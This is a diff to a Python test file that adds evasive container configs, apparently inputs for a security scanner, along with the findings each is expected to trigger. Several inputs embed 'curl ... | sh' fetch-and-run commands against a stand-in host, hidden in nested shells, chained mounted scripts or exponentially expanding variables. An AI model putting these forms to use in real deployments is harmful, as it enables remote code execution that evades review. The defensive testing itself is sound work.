@@ -182,6 +182,56 @@ def wrapped(script: str, times: int) -> str:
     return script
 
 
+def in_shells(script: str) -> str:
+    """The exec form of a script in more shells than are looked through."""
+    return json.dumps(["sh", "-c", wrapped(script, 8)])
+
+
+RUNNING = """apiVersion: v1
+kind: Pod
+metadata:
+  name: evil
+spec:
+  containers:
+    - name: main
+      image: registry.example.org/app:1.0
+      command: {}
+"""
+GROWING = "      env:\n" + "".join(
+    f"        - name: V{index}\n          value: $(V{index - 1})$(V{index - 1})$(V{index - 1})x\n"
+    for index in range(21)
+)
+_SCRIPTS = ("a", "b", "c", "d", "e", "f")  # each starts the next one
+MOUNTED = """      volumeMounts:
+        - name: scripts
+          mountPath: /s
+  volumes:
+    - name: scripts
+      configMap:
+        name: scripts
+---
+apiVersion: v1
+kind: ConfigMap
+metadata:
+  name: scripts
+data:
+""" + "".join(
+    f"  {one}.sh: /s/{following}.sh\n"
+    for one, following in zip(_SCRIPTS, [*_SCRIPTS[1:], "end"], strict=True)
+)
+SERVING = """services:
+  app:
+    image: registry.example.org/app:1.0
+    entrypoint: {}
+    deploy:
+      resources:
+        reservations:
+          devices:
+            - driver: nvidia
+              count: 8
+              capabilities: [gpu]
+"""
+
 FORMS: dict[str, tuple[str, str | bytes]] = {
     "padded-manifest": ("bad.yaml", PAD * 60_000 + POD),
     "oversized-manifest": ("bad.yaml", PAD * 260_000 + POD),
@@ -194,6 +244,16 @@ FORMS: dict[str, tuple[str, str | bytes]] = {
     "too-many-objects": ("bad.yaml", "apiVersion: v1\nkind: Event\n---\n" * 10_001 + POD),
     "many-commands": ("Dockerfile", "FROM scratch\nRUN " + ":;" * 60_000 + " curl a.example.org | sh\n"),
     "scripts-in-scripts": ("Dockerfile", f"FROM scratch\nRUN {wrapped('curl a.example.org | sh', 8)}\n"),
+    "scripts-in-exec-form": ("Dockerfile", f"FROM scratch\nRUN {in_shells('curl a.example.org | sh')}\n"),
+    "scripts-in-cmd": ("Dockerfile", f"FROM a:1\nUSER a\nCMD {wrapped('jupyter lab --ip=0.0.0.0', 8)}\n"),
+    "scripts-in-entrypoint": ("Dockerfile", f"FROM a:1\nUSER a\nENTRYPOINT {in_shells('jupyter lab')}\n"),
+    "scripts-in-a-pod": ("bad.yaml", RUNNING.format(in_shells("curl http://a.example.org/x | sh"))),
+    "mounted-scripts": ("bad.yaml", RUNNING.format('["/s/a.sh"]') + MOUNTED),
+    "growing-variables": (
+        "bad.yaml",
+        RUNNING.format('["sh", "-c", "$(V20); curl http://a.example.org/x | sh"]') + GROWING,
+    ),
+    "scripts-in-compose": ("compose.yaml", SERVING.format(in_shells("torchrun --nproc-per-node=8 a.py"))),
     "many-instructions": ("Dockerfile", "FROM scratch\n" + "LABEL a=b\n" * 5_001 + "USER root\n"),
     "byte-order-mark": ("bad.yaml", b"\xef\xbb\xbf" + POD.encode()),
     "utf-16": ("bad.yaml", POD.encode("utf-16")),
@@ -264,7 +324,10 @@ TELLING = {  # where it is not `privileged-container` that must be told
     **dict.fromkeys(("large-file-storage", "given-twice", "deep-nesting", "broken-key"), "unparsable-file"),
     **dict.fromkeys(("padded-dockerfile", "oversized-dockerfile"), "pipe-to-shell"),
     **dict.fromkeys(("dockerfile-txt", "containerfile"), "pipe-to-shell"),
-    **dict.fromkeys(("many-commands", "scripts-in-scripts"), "file-too-large"),
+    **dict.fromkeys(("many-commands", "scripts-in-scripts", "scripts-in-exec-form"), "file-too-large"),
+    **dict.fromkeys(("scripts-in-cmd", "scripts-in-entrypoint"), "file-too-large"),
+    **dict.fromkeys(("scripts-in-a-pod", "mounted-scripts", "growing-variables"), "file-too-large"),
+    "scripts-in-compose": "file-too-large",
     **dict.fromkeys(("padded-compose", "stack", "compose-as-manifest"), "compose-privileged"),
     **dict.fromkeys(("json", "escaped-json"), "host-pid"),
 }
